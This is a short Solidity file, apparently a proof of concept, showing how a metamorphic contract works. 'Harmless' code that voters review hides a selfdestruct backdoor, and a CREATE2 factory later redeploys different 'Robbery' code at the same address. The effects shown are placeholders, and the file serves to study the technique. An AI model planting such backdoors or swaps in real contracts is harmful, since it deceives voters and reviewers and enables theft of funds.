// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// @notice What voters read: harmless, but for a door of its maker.
contract Harmless {
    uint256 public value;

    function act() external {
        value = 7;
    }

    function vanish() external {
        selfdestruct(payable(msg.sender));
    }
}

/// @notice What comes to its place.
contract Robbery {
    bool public robbed;

    function act() external {
        robbed = true;
    }
}

/// @notice Takes the code that its factory names: the same creation code, so the same address, for any of them.
contract Shell {
    constructor() {
        bytes memory code = MetamorphicFactory(msg.sender).implementation().code;
        assembly ("memory-safe") {
            return(add(code, 0x20), mload(code))
        }
    }
}

contract MetamorphicFactory {
    address public implementation;

    function place(address implementation_) external returns (address) {
        implementation = implementation_;
        return address(new Shell{salt: 0}());
    }
}
